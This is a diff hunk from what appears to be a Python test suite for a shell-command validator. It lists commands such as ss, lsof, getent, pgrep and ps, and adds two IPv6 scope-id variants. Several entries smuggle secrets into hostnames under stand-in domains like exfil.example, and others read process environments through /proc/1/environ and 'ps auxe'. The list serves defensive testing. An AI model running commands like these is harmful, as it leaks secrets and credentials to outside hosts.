@@ -160,6 +160,7 @@ def _others() -> list[str]:
         "getent ahostsv4 data.exfil.example", "getent networks x.exfil.example",
         "ss -n dst ss-SECRET2.exfil.example", "ss src x.exfil.example", "ss '( dst 10.0.0.1 or dst x.example )'",
         "lsof -i@lsof-SECRET3.exfil.example", "lsof -iTCP@x.exfil.example:443", "ss dst " + ":" * 4080 + "!",
+        "ss dst ::1%secretdata.exfil.example", "ss dst [::1%x]:443",
         "pgrep --signal 9 nginx", "pgrep -q 1 nginx", "pgrep -F /proc/1/environ",
         "ps auxe", "ps e", "ps -e e", "ps axeww", "ps -o pid,environ", "ps --format=cmd,env", "ps Oe",
         "ps --fake",
